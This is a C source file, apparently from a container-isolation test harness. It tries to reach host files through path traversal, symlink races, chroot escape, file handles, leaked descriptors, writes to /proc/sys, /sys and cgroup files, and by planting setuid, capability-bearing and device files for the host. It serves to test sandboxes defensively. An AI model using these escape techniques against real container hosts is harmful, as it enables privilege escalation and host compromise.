/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Files: ways to a secret that everybody may read on the host, in a folder that is not shown here;
 * what the host gives of its own (/etc, /proc/sys, /sys); and what is left on a bind for the host.
 */
#include "attempt.h"
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <unistd.h>

static enum result absolute(void)
{
	return read_path(fact("secret"));
}

static enum result dots(void)
{
	char path[4352];
	snprintf(path, sizeof(path), "/../../../../../../../../../..%s", fact("secret"));
	enum result result = read_path(path);
	if (result == OUT || chdir("/rw") < 0)
		return result;
	snprintf(path, sizeof(path), "../../../../../../../../../..%s", fact("secret"));
	return read_path(path);
}

/* A link in the image, and one on a bind, whose target is the host's path. */
static enum result links(void)
{
	char path[64];
	if (read_path("/way-out") == OUT || read_path("/way-up") == OUT)
		return OUT;
	snprintf(path, sizeof(path), "/rw/link-%d", (int)getpid());
	if (symlink(fact("secret"), path) < 0)
		return refused("symlink");
	enum result result = read_path(path);
	unlink(path);
	return result;
}

/* A folder that another process swaps for a link upwards while it is walked. */
static enum result race(void)
{
	char path[4352], one[64], two[64];
	snprintf(one, sizeof(one), "/rw/race-%d", (int)getpid());
	snprintf(two, sizeof(two), "/rw/race-%d-link", (int)getpid());
	if (mkdir(one, 0700) < 0 || symlink("../../../../../../../..", two) < 0)
		return refused("symlink");
	pid_t child = fork();
	if (child == 0)
		for (;;)
			(void)renameat2(AT_FDCWD, one, AT_FDCWD, two, RENAME_EXCHANGE);
	enum result result = REFUSED;
	snprintf(path, sizeof(path), "%s/../../../../../..%s", one, fact("secret"));
	for (int i = 0; i < 2000 && result != OUT; i++)
		result = read_path(path);
	kill(child, 9);
	waitpid(child, NULL, 0);
	(void)!unlink(one);
	(void)!unlink(two);
	rmdir(one);
	rmdir(two);
	return result;
}

static enum result from_here(int folder)
{
	char path[4352];
	for (int i = 0; i < 64; i++)
		(void)!chdir("..");
	(void)!chroot(".");
	if (read_path(fact("secret")) == OUT)
		return OUT;
	snprintf(path, sizeof(path), "../../../../../../../../..%s", fact("secret"));
	return read_fd(openat(folder, path, O_RDONLY | O_CLOEXEC), "..") == OUT ? OUT : OWN;
}

/* A root below the folder that we stand in: ".." then knows no end. */
static enum result root_below(void)
{
	int folder = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (chdir("/") < 0 || chroot("/mnt") < 0)
		return refused("chroot");
	return from_here(folder);
}

static enum result root_through_bind(void)
{
	int folder = open("/rw", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (chroot("/rw/point") < 0)
		return refused("chroot");
	if (folder < 0 || fchdir(folder) < 0)
		return refused("fchdir");
	return from_here(folder);
}

/* The handle of the secret, on a mount of the file system that it lies on. */
static enum result by_handle(void)
{
	union {
		struct file_handle head;
		unsigned char bytes[sizeof(struct file_handle) + MAX_HANDLE_SZ];
	} handle = { .head.handle_type = (int)fact_number("handle_type") };
	unsigned int len = 0;
	for (const char *hex = fact("handle"); hex[0] && hex[1] && len < MAX_HANDLE_SZ; hex += 2) {
		char two[3] = { hex[0], hex[1], 0 };
		handle.bytes[sizeof(struct file_handle) + len++] =
			(unsigned char)strtoul(two, NULL, 16);
	}
	handle.head.handle_bytes = len;
	int folder = open("/rw", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	return read_fd(open_by_handle_at(folder, &handle.head, O_RDONLY | O_CLOEXEC),
		       "open_by_handle_at");
}

/* A descriptor of a folder that the caller had open. */
static enum result inherited(void)
{
	int fd = (int)fact_number("inherited");
	return read_fd(openat(fd, "secret", O_RDONLY | O_CLOEXEC), "inherited");
}

static enum result inherited_up(void)
{
	char path[4352];
	int fd = (int)fact_number("inherited");
	snprintf(path, sizeof(path), "../../../../../../../../..%s", fact("secret"));
	return read_fd(openat(fd, path, O_RDONLY | O_CLOEXEC), "inherited");
}

/* Any descriptor that leads out, whatever its number. */
static enum result any_descriptor(void)
{
	char path[4352];
	for (int fd = 0; fd < 1024; fd++) {
		snprintf(path, sizeof(path), "../../../../../../../../..%s", fact("secret"));
		if (fd == fact_number("inherited"))
			continue;
		if (read_fd(openat(fd, path, O_RDONLY | O_CLOEXEC), "..") == OUT) {
			note("descriptor %d", fd);
			return OUT;
		}
	}
	return REFUSED;
}

/* One that whoever set the container up has left open. Ours close on exec. */
static enum result leaked(void)
{
	for (int fd = 3; fd < 1024; fd++) {
		int flags = fcntl(fd, F_GETFD);
		if (flags >= 0 && !(flags & FD_CLOEXEC) && fd != fact_number("inherited")) {
			char path[64], target[128] = "";
			snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
			(void)!readlink(path, target, sizeof(target) - 1);
			note("%d: %s", fd, target);
			return OUT;
		}
	}
	return REFUSED;
}

/* The host's own file, not a copy: by device and inode. */
static enum result hosts_file(const char *path)
{
	char name[32], number[64];
	struct stat info;
	int fd = open(path, O_WRONLY | O_CLOEXEC | O_NONBLOCK);
	if (fd < 0)
		return refused(path);
	if (fstat(fd, &info) < 0)
		return refused(path);
	close(fd);
	snprintf(name, sizeof(name), "file_%s", strrchr(path, '/') + 1);
	snprintf(number, sizeof(number), "%lu:%lu", (unsigned long)info.st_dev,
		 (unsigned long)info.st_ino);
	note("%s: open for writing", path);
	return strcmp(fact(name), number) ? OWN : OUT;
}

static enum result etc_hosts(void)
{
	return hosts_file("/etc/hosts");
}

static enum result etc_resolv(void)
{
	return hosts_file("/etc/resolv.conf");
}

static enum result etc_localtime(void)
{
	return hosts_file("/etc/localtime");
}

static enum result etc_users(void)
{
	enum result result = hosts_file("/etc/passwd");
	return result == OUT ? result : hosts_file("/etc/group");
}

/* What is there is written again. */
static enum result again(const char *path)
{
	char text[512];
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	ssize_t n = fd < 0 ? -1 : read(fd, text, sizeof(text) - 1);
	if (fd >= 0)
		close(fd);
	if (n < 0)
		return refused(path);
	text[n] = 0;
	if (write_text(path, text) < 0)
		return refused(path);
	note("%s: written", path);
	return OUT;
}

static enum result core_pattern(void)
{
	return again("/proc/sys/kernel/core_pattern");
}

static enum result sysctl_kernel(void)
{
	static const char *const paths[] = { "/proc/sys/kernel/modprobe",
					     "/proc/sys/kernel/randomize_va_space",
					     "/proc/sys/fs/protected_symlinks",
					     "/proc/sys/vm/overcommit_memory",
					     "/proc/sys/kernel/dmesg_restrict" };
	enum result result = REFUSED;
	for (size_t i = 0; i < sizeof(paths) / sizeof(*paths) && result != OUT; i++)
		result = again(paths[i]);
	return result;
}

static enum result sysctl_net(void)
{
	enum result result = again("/proc/sys/net/ipv4/ip_forward");
	return result == OUT && !is_host_ns("net") ? OWN : result;
}

static enum result sysrq(void)
{
	return open_to_write("/proc/sysrq-trigger");
}

static enum result sys_write(void)
{
	static const char *const paths[] = { "/sys/kernel/uevent_helper",
					     "/sys/kernel/mm/transparent_hugepage/enabled",
					     "/sys/power/state", "/sys/power/disk",
					     "/sys/module/kernel/parameters/panic" };
	enum result result = REFUSED;
	for (size_t i = 0; i < sizeof(paths) / sizeof(*paths) && result != OUT; i++)
		result = open_to_write(paths[i]);
	return result;
}

static enum result cgroup_move(void)
{
	static const char *const paths[] = { "/sys/fs/cgroup/cgroup.procs",
					     "/sys/fs/cgroup/unified/cgroup.procs",
					     "/sys/fs/cgroup/memory/cgroup.procs",
					     "/sys/fs/cgroup/pids/cgroup.procs" };
	enum result result = REFUSED;
	for (size_t i = 0; i < sizeof(paths) / sizeof(*paths) && result != OUT; i++)
		result = open_to_write(paths[i]);
	return result;
}

static enum result addresses(void)
{
	char line[256] = "";
	int fd = open("/proc/kallsyms", O_RDONLY | O_CLOEXEC);
	if (fd < 0 || read(fd, line, sizeof(line) - 1) <= 0)
		return refused("/proc/kallsyms");
	/* The first ones of some kernels are offsets of each processor. */
	(void)!lseek(fd, 65536, SEEK_SET);
	if (read(fd, line, sizeof(line) - 1) <= 0)
		return refused("/proc/kallsyms");
	const char *at = strchr(line, '\n');
	return at && strtoull(at + 1, NULL, 16) ? OUT : REFUSED;
}

static enum result tmp_file(void)
{
	return read_path(fact("tmp_file"));
}

static enum result home_file(void)
{
	return read_path(fact("home_file"));
}

static enum result shm_file(void)
{
	return read_path(fact("shm_file"));
}

/* What is left behind on a bind; the host looks whose it is. */
static enum result leave_set_uid(void)
{
	int fd = open("/rw/left-set-uid", O_WRONLY | O_CREAT | O_CLOEXEC, 0755);
	if (fd < 0)
		return refused("open");
	return fchmod(fd, 06755) < 0 ? refused("chmod") : OWN;
}

static enum result leave_owner(void)
{
	int fd = open("/rw/left-owner", O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
	if (fd < 0)
		return refused("open");
	return fchown(fd, 0, 0) < 0 ? refused("chown") : OWN;
}

static enum result leave_capabilities(void)
{
	/* Version 2, all permitted, effective. */
	static const unsigned char all[20] = { 1, 0, 0, 2, 255, 255, 255, 255, 0, 0, 0, 0, 255, 1 };
	int fd = open("/rw/left-capable", O_WRONLY | O_CREAT | O_CLOEXEC, 0755);
	if (fd < 0)
		return refused("open");
	return fsetxattr(fd, "security.capability", all, sizeof(all), 0) < 0 ? refused("setxattr")
									     : OWN;
}

static enum result leave_device(void)
{
	(void)unlink("/rw/left-device");
	return mknod("/rw/left-device", S_IFBLK | 0666, (dev_t)fact_number("block_number")) < 0
		       ? refused("mknod")
		       : OWN;
}

const struct attempt file_attempts[] = {
	{ "path", absolute },
	{ "path-dots", dots },
	{ "path-links", links },
	{ "path-race", race },
	{ "chroot", root_below },
	{ "chroot-bind", root_through_bind },
	{ "file-handle", by_handle },
	{ "inherited-folder", inherited },
	{ "inherited-up", inherited_up },
	{ "any-descriptor", any_descriptor },
	{ "leaked-descriptor", leaked },
	{ "etc-hosts", etc_hosts },
	{ "etc-resolv", etc_resolv },
	{ "etc-localtime", etc_localtime },
	{ "etc-users", etc_users },
	{ "core-pattern", core_pattern },
	{ "sysctl-kernel", sysctl_kernel },
	{ "sysctl-net", sysctl_net },
	{ "sysrq", sysrq },
	{ "sys-write", sys_write },
	{ "cgroup-move", cgroup_move },
	{ "kernel-addresses", addresses },
	{ "tmp-file", tmp_file },
	{ "home-file", home_file },
	{ "shm-file", shm_file },
	{ "leave-set-uid", leave_set_uid },
	{ "leave-owner", leave_owner },
	{ "leave-capabilities", leave_capabilities },
	{ "leave-device", leave_device },
	{ NULL, NULL },
};
